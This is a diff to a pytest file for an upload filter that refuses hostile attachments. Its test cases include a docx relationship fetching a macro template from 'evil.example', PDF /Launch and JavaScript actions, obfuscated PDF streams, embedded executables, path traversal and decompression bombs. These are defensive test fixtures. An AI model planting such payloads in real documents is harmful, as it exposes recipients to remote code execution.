@@ -14,6 +14,7 @@ from tests.tickets.files import GOOD, PDF, TEXT, docx, m4a, odt, pdf, picture
 
 pytestmark = pytest.mark.unit
 
+FETCHED = '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"/>'
 SCRIPT = b"/S /JavaScript /JS (app.alert(1))"
 
 
@@ -73,6 +74,9 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("umowa.pdf", PDF.replace(b"/Type", b"/S/Launch/F(calc.exe)/Type"), Why.ACTIVE),
         ("umowa.pdf", PDF.replace(b"/Type", b"/EmbeddedFiles 3 0 R/Type"), Why.ACTIVE),
         ("umowa.pdf", pdf(SCRIPT), Why.ACTIVE),
+        ("umowa.pdf", pdf(SCRIPT).replace(b"ObjStm", b"Obj#53tm"), Why.ACTIVE),
+        ("umowa.pdf", pdf(SCRIPT).replace(b"Flate", b"LZW"), Why.ACTIVE),
+        ("umowa.pdf", pdf(b"").replace(b"/Flate", b"/Predictor 12/Flate"), Why.DAMAGED),
         ("umowa.pdf", pdf(bytes(60_000_000)), Why.BOMB),
         ("umowa.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), Why.ENCRYPTED),
         ("kran.png", picture("JPEG"), Why.OTHER),
@@ -90,12 +94,12 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("pismo.docx", docx(**{"word__media__image1.png": b"MZ\x90"}), Why.ACTIVE),
         ("pismo.docx", docx(**{"word__inside.dat": odt()}), Why.ACTIVE),
         ("pismo.docx", docx(word__x__rels__a="").replace(b"word/x", b"../..x"), Why.OTHER),
-        ("pismo.docx", docx(**{"word__a.rels": 'Type="…/attachedTemplate"'}), Why.ACTIVE),
-        ("pismo.docx", docx(**{"a.xml": "ContentType=…macroEnabled.main+xml"}), Why.ACTIVE),
+        ("pismo.docx", docx(word___rels__settings="", **{"a.rels": FETCHED}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"[Content_Types].xml": "macroEnabled.main+xml"}), Why.ACTIVE),
         ("pismo.docx", docx(word__zeros=bytes(20_000_000)), Why.BOMB),
         ("pismo.odt", odt(Basic__Standard__m="Sub Main"), Why.ACTIVE),
         ("pismo.odt", odt(**{"META-INF__manifest.xml": "<encryption-data/>"}), Why.ENCRYPTED),
-        ("szum.m4a", m4a(b"\x00\x00\x00\x10trakvide...."), Why.OTHER),
+        ("szum.m4a", m4a(b"\x00\x00\x00\x18trakhdlr........vide"), Why.OTHER),
         ("szum.m4a", m4a(b"\x00\x00\xff\xffmdat"), Why.OTHER),
         ("szum.mp3", b"\xff\xfb\x90\x00" + bytes(400), Why.OTHER),
         ("szum.wav", b"RIFF....AVI LIST", Why.OTHER),
@@ -104,6 +108,17 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
 )
 def test_what_is_refused(kept: Attachments, name: str, content: bytes, expected: Why) -> None:
     assert why(kept, name, content) is expected
+
+
+def test_what_a_printer_and_a_template_of_the_office_leave_behind_is_taken(
+    kept: Attachments,
+) -> None:
+    parts: dict[str, bytes | str] = {
+        "xl__printerSettings__printerSettings1.bin": b"\x00",
+        "word___rels__settings.xml.rels": FETCHED.replace("https://evil.example", "file:///C:"),
+        "word__media__image1.svg": "<svg/>",
+    }
+    assert kept.keep([Offered("pismo.docx", docx(**parts))])
 
 
 @pytest.mark.parametrize(
